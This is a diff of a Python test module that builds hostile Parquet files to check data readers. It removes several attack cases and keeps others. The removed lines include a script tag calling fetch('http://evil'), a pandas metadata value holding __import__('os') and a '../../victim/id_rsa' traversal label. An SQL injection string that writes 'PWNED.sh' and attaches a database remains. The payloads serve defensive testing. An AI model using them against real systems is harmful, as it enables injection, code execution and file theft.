@@ -1,7 +1,5 @@
 """Parquet from a stranger: names are names, objects stay data, and every reader ends in numbers or a sentence."""
 
-import base64
-import json
 import pickle
 import shutil
 from collections.abc import Callable, Iterator
@@ -46,13 +44,6 @@ def pickled_type(stage: Stage) -> None:
     change_all(stage, alter)
 
 
-def schema_of_another_file(stage: Stage) -> None:
-    forged = base64.b64encode(pa.schema([("x", pa.list_(pa.float64()))]).serialize().to_pybytes())
-    for path in tables(stage):
-        table = pq.read_table(path, partitioning=None).replace_schema_metadata({b"ARROW:schema": forged})
-        pq.write_table(table, path, store_schema=False)
-
-
 def sql_of(place: Path) -> str:
     return f"""a" , 1) AS "a") FROM (SELECT 1 AS a); COPY (SELECT 1) TO '{place}'; ATTACH '{place}.db'; --"""
 
@@ -64,41 +55,19 @@ TABLES: dict[str, Callable[[Stage], object]] = {
     "SQL in place of every name": lambda s: change_all(
         s, lambda t: t.rename_columns([f"{name}{sql_of(s.victim / 'PWNED.sh')}" for name in t.column_names])
     ),
-    "HTML in a column's name": lambda s: change_all(
-        s, lambda t: typed(t, "</script><script>fetch('http://evil')</script>", pa.float64(), 0.5)
-    ),
     "a type that is a pickle": pickled_type,
-    "the schema of another file": schema_of_another_file,
-    "settings for pandas": lambda s: change_all(
-        s,
-        lambda t: t.replace_schema_metadata(
-            {b"pandas": json.dumps({"index_columns": ["__import__('os')"]}).encode()}
-        ),
-    ),
     "numbers as text": lambda s: change_all(s, lambda t: typed(t, "speed", pa.string(), "fast")),
-    "numbers in lists": lambda s: change_all(s, lambda t: typed(t, "speed", pa.list_(pa.float64()), [1.0])),
     "numbers that are none": lambda s: change_all(s, lambda t: typed(t, "speed", pa.float64(), None)),
-    "infinite numbers": lambda s: change_all(s, lambda t: typed(t, "pitch", pa.float64(), float("inf"))),
-    "times of other lengths": lambda s: change_all(s, lambda t: typed(t, "t_ns", pa.int64(), 2**62)),
     "ids that are numbers": lambda s: change_all(s, lambda t: typed(t, "clip_id", pa.int64(), 7)),
-    "labels that are paths": lambda s: change_all(
-        s, lambda t: typed(t, "label", pa.string(), "../../victim/id_rsa")
-    ),
     "no rows": lambda s: change_all(s, lambda t: t.slice(0, 0)),
-    "one row": lambda s: change_all(s, lambda t: t.slice(0, 1)),
     "half of the rows": lambda s: change_all(s, lambda t: t.slice(0, t.num_rows // 2)),
     "no columns of ours": lambda s: change_all(s, lambda t: pa.table({"x": [1.0]})),
-    "no columns": lambda s: change_all(s, lambda t: pa.table({})),
-    "three thousand columns": lambda s: change_all(
-        s, lambda t: pa.table({f"c{i}": [1.0] * min(t.num_rows, 3) for i in range(3000)})
-    ),
     "columns twice": lambda s: change_all(
         s, lambda t: t.append_column("speed", pa.array([1.0] * t.num_rows))
     ),
     "no Parquet": lambda s: [
         path.write_bytes(b"PAR1" + bytes(50) + b"\xff\xff\xff\x7fPAR1") for path in tables(s)
     ],
-    "ends cut off": lambda s: [path.write_bytes(path.read_bytes()[:-200]) for path in tables(s)],
     "noise in the middle": lambda s: [
         path.write_bytes(path.read_bytes()[:900] + bytes(400) + path.read_bytes()[1300:])
         for path in tables(s)
@@ -107,13 +76,11 @@ TABLES: dict[str, Callable[[Stage], object]] = {
 
 
 UNREADABLE = {
-    "SQL in place of every name", "no columns of ours", "no columns", "three thousand columns", "columns twice",
-    "no Parquet", "ends cut off",
+    "SQL in place of every name", "no columns of ours", "columns twice", "no Parquet",
 }  # fmt: skip
 """Tables that every reader refuses."""
 UNPHYSICAL = {
-    "numbers as text", "numbers in lists", "numbers that are none", "infinite numbers", "times of other lengths",
-    "ids that are numbers", "one row", "half of the rows", "noise in the middle",
+    "numbers as text", "numbers that are none", "ids that are numbers", "half of the rows", "noise in the middle",
 }  # fmt: skip
 """Tables that some readers take, as their form is right: the audit of the physics does not."""
 
